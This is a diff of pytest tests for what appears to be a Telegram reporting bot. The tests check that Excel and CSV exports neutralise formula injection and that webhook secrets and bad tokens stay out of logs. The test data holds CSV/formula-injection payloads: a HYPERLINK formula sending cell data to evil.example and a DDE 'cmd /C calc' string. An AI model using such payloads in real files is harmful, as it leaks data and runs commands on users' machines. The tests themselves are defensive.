@@ -26,6 +26,7 @@ from bot.commands import COMMANDS, Role
 from bot.config import Settings
 from bot.demo_data import GROUP_ID, member_id
 from bot.emulator import Emulator, Limits, User
+from bot.logs import RedactFilter
 from storage import repo
 from storage.db import Database, DatabaseError
 from storage.models import Member, Report
@@ -292,7 +293,7 @@ def test_run_webhook_gets_the_secret_and_a_random_one_when_unset(tmp_path: Path,
 
     calls: list[dict[str, Any]] = []
     monkeypatch.setattr(Application, "run_webhook", lambda self, **kw: calls.append(kw))
-    monkeypatch.setattr(cli, "setup_logging", lambda *a, **k: None)
+    monkeypatch.setattr(cli, "setup_logging", lambda *a, **k: RedactFilter())
     base = {"webhook_url": "https://bot.example.vn/hook", "database_url": sqlite_url(tmp_path)}
     assert cli.cmd_run(_settings(**base, webhook_secret="configured-1"), Namespace()) == 0
     caplog.set_level(logging.WARNING)
@@ -332,3 +333,100 @@ def test_database_password_hidden_in_errors() -> None:
     from storage.db import safe_url
 
     assert "Very-S3cret" not in safe_url(db.engine)
+
+
+# ---------------------------------------------------------------------------------------------- exports
+
+
+EVIL_NAMES = ('=HYPERLINK("http://evil.example/?d="&C5,"Mở")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+              "\tThôn tab", "\rThôn CR")
+
+
+def test_exports_never_contain_live_formulas(sqlite_db: Database) -> None:
+    """Issue 15 item 5: user text starting with = + - @ tab CR is a string cell in xlsx, escaped in CSV."""
+    import csv
+    import io
+    from datetime import UTC, date, datetime
+    from zoneinfo import ZoneInfo
+
+    from openpyxl import load_workbook
+
+    from bot.demo_data import seed_demo
+    from bot.export import write_csv, write_xlsx
+    from storage.models import Unit
+
+    demo = seed_demo(sqlite_db)
+    day = date(2025, 8, 14)
+    with sqlite_db.session() as s:
+        villages = list(s.scalars(select(Unit).where(Unit.parent_id == demo.commune_id).order_by(Unit.id)))
+        for u, name in zip(villages, EVIL_NAMES, strict=False):
+            u.name = name
+        m = s.scalars(select(Member).where(Member.unit_id == villages[0].id)).first()
+        assert m is not None
+        m.display_name = "=1+2"
+        s.add(Report(unit_id=villages[0].id, metric="l2", day=day, value=3, reporter_id=m.id, chat_id="-100500",
+                     message_id=1, created_at=datetime(2025, 8, 14, 3, tzinfo=UTC), raw_text="=2+5 hôm nay"))
+    content, _rows = write_xlsx(sqlite_db, demo.commune_id, day, day, tz=ZoneInfo("Asia/Ho_Chi_Minh"),
+                                now=datetime(2025, 8, 14, 3, tzinfo=UTC))
+    wb = load_workbook(io.BytesIO(content))
+    seen: set[str] = set()
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    seen.add(cell.value)
+    assert EVIL_NAMES[0] in seen and "@SUM(1+1)" in seen and "=1+2" in seen and "=2+5 hôm nay" in seen
+    for sheet in ("summary", "daily", "raw"):
+        data, _n = write_csv(sqlite_db, demo.commune_id, day, day, sheet=sheet, tz=ZoneInfo("Asia/Ho_Chi_Minh"))
+        cells = [c for r in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in r]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], sheet
+        assert "'" + EVIL_NAMES[0] in cells
+        if sheet == "summary":
+            assert "'@SUM(1+1)" in cells and "'-2+3" in cells
+    data, _n = write_csv(sqlite_db, demo.commune_id, day, day, sheet="raw", tz=ZoneInfo("Asia/Ho_Chi_Minh"))
+    assert "'=2+5 hôm nay" in data.decode("utf-8-sig") and "'=1+2" in data.decode("utf-8-sig")
+
+
+# ---------------------------------------------------------------------------------------------- secrets in logs
+
+
+@pytest.mark.timeout(120)
+async def test_webhook_secret_and_rejected_token_never_logged(tmp_path: Path) -> None:
+    """Issue 15 item 9: PTB's DEBUG line for setWebhook carries the secret; a rejected token printed a long
+    traceback ending with the token. Both runs: the secret/token appear 0 times; the rejection is one line."""
+    emu = Emulator(SECRET_TOKEN, limits=Limits.off())
+    await emu.start()
+    url = sqlite_url(tmp_path)
+    seed(Database(url), 0)
+    hook_secret = "Hook-s3cret_value_0123456789"
+    port = _free_port()
+    bot = BotProcess(emu, url, tmp_path / "hook.log", LOG_LEVEL="DEBUG", WEBHOOK_URL=f"http://127.0.0.1:{port}",
+                     WEBHOOK_SECRET=hook_secret, WEBHOOK_LISTEN="127.0.0.1", WEBHOOK_PORT=str(port))
+    try:
+        bot.start()
+        await wait_for(lambda: emu._webhook is not None, 60, "setWebhook")
+        assert emu._webhook is not None and emu._webhook["secret_token"] == hook_secret
+        await asyncio.sleep(0.5)
+        await bot.stop()
+        # not token-shaped, so only the exact-secret redaction can hide it
+        wrong = "not-a-botfather-token-Secret_XYZ"
+        run = await asyncio.to_thread(
+            subprocess.run, [sys.executable, "-m", "bot", "run"], cwd=str(tmp_path), capture_output=True, text=True,
+            timeout=60, env={**bot.env, "PYTHONPATH": str(ROOT), "TELEGRAM_BOT_TOKEN": wrong, "LOG_LEVEL": "INFO",
+                             "WEBHOOK_URL": ""})
+    finally:
+        if bot.alive:
+            bot.kill9()
+        hook_task = emu._webhook_task  # noqa: SLF001 - the emulator cancels its webhook sender without awaiting it
+        await emu.stop()
+        if hook_task is not None:
+            await asyncio.wait([hook_task], timeout=5)
+    log = bot.log()
+    assert "setWebhook" in log, "the DEBUG log should show the setWebhook call (else this proves nothing)"
+    assert hook_secret not in log
+    out = run.stdout + run.stderr
+    assert run.returncode == 2, out[-2000:]
+    assert wrong not in out and "Traceback" not in out, out[-3000:]
+    errors = [line for line in out.splitlines() if "ERROR" in line or "CRITICAL" in line or "rejected" in line]
+    assert len(errors) == 1 and "TELEGRAM_BOT_TOKEN" in errors[0], errors
